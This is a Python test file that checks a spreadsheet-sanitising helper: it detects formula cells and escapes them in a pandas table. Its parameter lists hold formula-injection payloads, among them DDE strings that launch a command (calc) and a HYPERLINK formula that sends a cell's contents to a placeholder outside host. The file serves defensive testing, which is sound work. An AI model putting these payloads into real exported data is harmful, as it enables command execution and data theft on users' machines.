from __future__ import annotations

import pandas as pd
import pytest

from fieldbook.tables.spreadsheet import is_formula, without_formulas


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("https://elsewhere.example?x="&A1,"click")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "+49 (0)30 1",
        "-1e",
        "- x",
    ],
)
def test_what_a_spreadsheet_would_run_is_known(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "1",
        "-1",
        "+1",
        "-1.5",
        "-1,234.5",
        "-1e-7",
        "+3 %",
        "-",
        "+",
        "<=50K",
        "a=b",
        "x@y",
        "'=",
    ],
)
def test_what_is_honest_stays(text: str) -> None:
    assert not is_formula(text)


def test_only_texts_that_are_formulas_change() -> None:
    frame = pd.DataFrame(
        {
            "prediction": ["=1+1", "fine", None, "-"],
            "code": pd.Categorical(["+1", "+1", "-1", "-1"]),
            "value": [-1.5, 2.0, -3.0, float("nan")],
        }
    )
    safe, found = without_formulas(frame)
    assert found == 1
    assert safe["prediction"].tolist()[:2] == ["'=1+1", "fine"]
    assert pd.isna(safe["prediction"][2])
    pd.testing.assert_frame_equal(safe[["code", "value"]], frame[["code", "value"]])
    assert frame["prediction"][0] == "=1+1"
